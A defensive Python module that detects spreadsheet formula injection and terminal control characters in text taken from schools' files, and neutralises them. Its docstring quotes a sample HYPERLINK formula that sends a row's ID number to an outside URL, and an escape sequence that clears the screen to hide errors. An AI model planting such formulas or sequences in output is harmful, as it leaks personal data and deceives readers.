"""What text from a school's file may never do: be evaluated as a spreadsheet formula, or drive a terminal.

Text a school typed (a roster cell, a room name, a zip entry name) is data. Two places would treat it as code:

* a spreadsheet, which evaluates a cell whose text starts with ``=`` (and, as OWASP's CSV-injection page says,
  ``+``, ``-``, ``@``, a tab or a carriage return) — ``=HYPERLINK("http://…?id="&E4,"点击核对")`` in a report
  would send that row's ID number away when clicked. :func:`formula_like` tells which texts a workbook writer
  must write as a text cell (with Excel's quote prefix, as Excel itself stores ``'=…`` typed by hand), and
  :data:`FORMULA_STARTS` lists the characters;
* a terminal, which obeys control characters: ``\\x1b[2J`` clears the screen and can hide real errors behind a
  fake "没有发现问题". :func:`visible` replaces every control character but newline and tab by a visible stand-in
  (``\\x1b`` becomes ``␛``), and :func:`visible_in_cell` does the same for the characters a workbook cannot hold.

Pure functions; they never raise and never change text that is neither formula-like nor holds control characters.
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_STARTS", "formula_like", "has_control_characters", "visible", "visible_in_cell"]

FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")
"""First characters that make a spreadsheet (Excel, WPS, LibreOffice) evaluate text as a formula: OWASP's list,
plus the full-width forms a Chinese input method types, which WPS turns into formulas too."""

_CONTROL_PICTURES = {code: chr(0x2400 + code) for code in range(0x20)}
"""C0 controls as their Unicode "control pictures" (U+2400–U+241F): ``\\x1b`` shows as ``␛``. (JSON escapes C0
itself, so a ``--json`` line never holds one; everything else is shown as ``\\uXXXX``, which a JSON string reads
back as the very same character.)"""

_TERMINAL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
"""Every character a terminal may act on instead of showing: C0 controls but tab and newline, DEL, C1 controls
(``\\x9b`` is a one-byte CSI), and the bidirectional overrides that reorder what a reader sees."""

_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b-\x1f\ufffe\uffff]")
"""Characters an .xlsx (XML 1.0) cannot hold: openpyxl refuses them, and a carriage return comes back as a
newline (XML normalises line ends)."""


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would evaluate ``text`` typed into a cell (its first character is in
    :data:`FORMULA_STARTS`). ``"=1+1"``, ``"+86 138…"``, ``"-3"`` and ``"@SUM(A1)"`` are; ``"计算机"`` is not."""
    return bool(text) and text[0] in FORMULA_STARTS


def _picture(match: re.Match[str]) -> str:
    char = match.group()
    code = ord(char)
    return _CONTROL_PICTURES.get(code) or f"\\u{code:04x}"


def visible(text: str) -> str:
    """``text`` with every character a terminal would act on made visible: C0 controls as control pictures
    (``"\\x1b[2J"`` -> ``"␛[2J"``, ``"\\r"`` -> ``"␍"``), C1 controls and bidirectional overrides as ``\\uXXXX``.
    Newline and tab are kept; anything else is unchanged."""
    if text.isprintable() or not _TERMINAL.search(text):
        return text
    return _TERMINAL.sub(_picture, text)


def visible_in_cell(text: str) -> str:
    """``text`` with the characters an .xlsx cannot hold (C0 controls but tab and newline; U+FFFE, U+FFFF) made
    visible as :func:`visible` shows them; anything else unchanged."""
    if not _NOT_IN_XML.search(text):
        return text
    return _NOT_IN_XML.sub(_picture, text)


def has_control_characters(text: str) -> bool:
    """Whether :func:`visible` would change ``text``."""
    return not text.isprintable() and _TERMINAL.search(text) is not None
